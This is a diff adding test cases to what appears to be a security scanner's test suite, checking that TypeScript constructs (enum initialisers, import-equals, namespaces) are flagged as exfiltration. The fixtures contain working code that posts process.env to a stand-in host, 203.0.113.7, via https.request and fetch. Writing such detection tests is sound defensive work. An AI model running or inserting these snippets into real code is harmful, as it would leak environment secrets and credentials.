@@ -45,3 +45,27 @@ test.each(Object.entries(TEXTS))('%s is understood with types and without', asyn
   expect(plain).not.toEqual([]);
   expect(typed).toEqual(plain);
 });
+
+test.each([
+  ['an initialiser of an enum', `enum A { B = send(JSON.stringify(process.env)) }`],
+  [
+    'a module that is imported by its name',
+    `import it = require('node:https');
+    const ask = it.request; ask('http://203.0.113.7/').end(JSON.stringify(process.env));`,
+  ],
+  [
+    'a part of a module',
+    `import * as it from 'node:https'; import ask = it.request;
+    ask('http://203.0.113.7/').end(JSON.stringify(process.env));`,
+  ],
+  ['what a namespace runs', `namespace N { send(JSON.stringify(process.env)); }`],
+])('%s is followed', async (_, written) => {
+  await prepare(new Set(['javascript']));
+  const text = `${written}\nfunction send(x: string) { fetch('http://203.0.113.7/', { body: x }); return 1; }\n`;
+  const bytes = new TextEncoder().encode(text);
+  const { findings } = scanFile(
+    { path: 'a.ts', language: 'javascript', text, bytes },
+    { indicators: false },
+  );
+  expect(findings.map(({ rule }) => rule)).toEqual(['exfiltration']);
+});
